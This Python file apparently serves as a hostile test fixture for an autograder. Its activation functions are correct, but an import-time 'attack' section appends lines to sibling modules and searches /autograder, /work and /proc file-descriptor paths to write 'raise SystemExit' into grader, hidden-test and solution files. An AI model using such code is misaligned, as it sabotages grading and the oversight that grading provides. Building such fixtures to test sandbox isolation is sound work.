"""At import, rewrites its own package's other modules on disk and in sys.modules (to equivalent
code), installs an import hook, and tries to write into the kit (hidden tests, solution, grading
code) by guessed paths and through open descriptors. Otherwise the instructor's module.
"""

import os
import sys

import numpy as np


def sigmoid(z):
    """The logistic sigmoid, sigma(z) = 1 / (1 + exp(-z)), elementwise.

    Inputs:
    - z: array of any shape, or a number

    Returns:
    - s: float64 array shaped like z, values in [0, 1]; no overflow warning and no nan,
      even for z as large as +-1e4
    """
    z = np.asarray(z, dtype=np.float64)
    e = np.exp(-np.abs(z))  # in (0, 1]: never overflows
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_grad(z):
    """The derivative of the sigmoid, d sigma / dz = sigma(z) * (1 - sigma(z)), elementwise.

    Inputs:
    - z: array of any shape, or a number (the input of the sigmoid, not its output)

    Returns:
    - ds: float64 array shaped like z
    """
    s = sigmoid(z)
    return s * (1.0 - s)


def tanh(z):
    """The hyperbolic tangent, (e^z - e^-z) / (e^z + e^-z), elementwise.

    Inputs:
    - z: array of any shape, or a number

    Returns:
    - t: float64 array shaped like z, values in [-1, 1]
    """
    return np.tanh(np.asarray(z, dtype=np.float64))


def tanh_grad(z):
    """The derivative of tanh, 1 - tanh(z)^2, elementwise.

    Inputs:
    - z: array of any shape, or a number (the input of tanh, not its output)

    Returns:
    - dt: float64 array shaped like z
    """
    t = tanh(z)
    return 1.0 - t * t


def relu(z):
    """The rectified linear unit, max(0, z), elementwise.

    Inputs:
    - z: array of any shape, or a number

    Returns:
    - r: float64 array shaped like z
    """
    return np.maximum(0.0, np.asarray(z, dtype=np.float64))


def relu_grad(z):
    """The derivative of ReLU: 1.0 where z > 0, else 0.0 (we take 0 at z = 0).

    Inputs:
    - z: array of any shape, or a number

    Returns:
    - dr: float64 array shaped like z, holding only 0.0 and 1.0
    """
    return (np.asarray(z, dtype=np.float64) > 0).astype(np.float64)


# -- the attack ----------------------------------------------------------------------


def _reachable_dirs():
    """Guessed folders, and the ancestors of every folder this process holds open: a
    mount on top of an ancestor does not cover a path walked up from below."""
    dirs = ["/work/main", "/work", "/autograder", "/autograder/source", "/autograder/results"]
    dirs += ["/proc/1/cwd", f"/proc/{os.getppid()}/cwd", os.getcwd()]
    dirs += [os.getcwd() + "/.." * up for up in range(1, 7)]
    try:  # gone when the worker has no /proc
        fds = os.listdir("/proc/self/fd")
    except OSError:
        fds = []
    for fd in fds:
        base = f"/proc/self/fd/{fd}"
        if os.path.isdir(base):
            dirs += [base + "/.." * up for up in range(1, 7)]
    return dirs


MARKER = "nnkit-hostile-self_modify"
HERE = os.path.dirname(os.path.abspath(__file__))


def _touch_package():
    for name in sorted(os.listdir(HERE)):
        path = os.path.join(HERE, name)
        if name.endswith(".py") and name != os.path.basename(__file__):
            try:
                with open(path, "a") as fh:
                    fh.write(f"\n# {MARKER} was here\n")
            except OSError:
                pass


def _attack_kit():
    for root in _reachable_dirs():
        for rel in (
            "autograder/checks_activations.py",
            "autograder/__init__.py",
            "solution/nnbasics/activations.py",
            "grading/grader.py",
            "grading/suite.py",
        ):
            try:
                with open(os.path.join(root, rel), "a") as fh:
                    fh.write(f"\nraise SystemExit({MARKER!r})\n")
            except OSError:
                pass
            try:
                with open(os.path.join(root, os.path.dirname(rel), f"{MARKER}.marker"), "w"):
                    pass
            except OSError:
                pass


class _Hook:
    """An import hook that only watches (it declines every module)."""

    seen = []

    def find_spec(self, name, path=None, target=None):
        self.seen.append(name)
        return None


_touch_package()
_attack_kit()
sys.meta_path.insert(0, _Hook())
for _name, _module in list(sys.modules.items()):
    if _name.startswith("nnbasics.") and _module is not None and _name != __name__:
        for _attr, _value in list(vars(_module).items()):
            if callable(_value) and getattr(_value, "__module__", "") == _name:
                setattr(_module, _attr, _value)
